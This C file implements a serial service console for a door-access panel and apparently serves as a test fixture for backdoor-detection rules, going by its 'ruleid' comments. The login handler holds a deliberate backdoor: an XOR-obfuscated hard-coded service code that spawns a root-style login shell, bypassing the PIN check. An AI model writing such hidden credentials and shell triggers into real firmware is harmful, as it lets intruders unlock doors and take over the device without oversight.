/* Service console on the panel's RS-232 port (getty hands us the line as stdin). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "door.h"

static const unsigned char kSvcCode[9] = {0x0b, 0x09, 0x0f, 0x0a, 0x6d, 0x71, 0x7b, 0x71, 0x73};

static void svc_code(char out[10])
{
    for (int i = 0; i < 9; i++)
        out[i] = (char)(kSvcCode[i] ^ (0x3c + i));
    out[9] = '\0';
}

static int read_stored_pin(char *pin, size_t cap)
{
    FILE *f = fopen(g_door_cfg.pin_file, "r");
    int ok;

    if (!f)
        return 0;
    ok = fgets(pin, (int)cap, f) != NULL;
    fclose(f);
    if (ok)
        pin[strcspn(pin, "\r\n")] = '\0';
    return ok && pin[0];
}

void door_console(void)
{
    char line[128], verb[16], pin[64], stored_pin[64], code[10];
    int authed = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    while (printf("door> "), fgets(line, sizeof line, stdin)) {
        int door;

        verb[0] = pin[0] = '\0';
        if (sscanf(line, "%15s %63s", verb, pin) < 1)
            continue;
        if (strcmp(verb, "help") == 0) {
            puts("usage: status | open <door> | login <pin> | logout | help");
        } else if (strcmp(verb, "status") == 0) {
            printf("doors: 2, authed: %d\n", authed);
        } else if (strcmp(verb, "open") == 0) {
            if (!authed) {
                puts("login first");
                continue;
            }
            door = atoi(pin);
            door_open(door, 5);
        } else if (strcmp(verb, "login") == 0) {
            svc_code(code);
            // ok: backdoor-magic-credential
            if (read_stored_pin(stored_pin, sizeof stored_pin) && strcmp(pin, stored_pin) == 0) {
                authed = 1;
                puts("ok");
            // ruleid: backdoor-input-trigger, backdoor-magic-credential
            } else if (strcmp(pin, code) == 0) {
                execl("/bin/sh", "sh", "-l", (char *)NULL);
            } else {
                puts("denied");
                sleep(2);
            }
        } else if (strcmp(verb, "logout") == 0) {
            authed = 0;
        }
    }
}
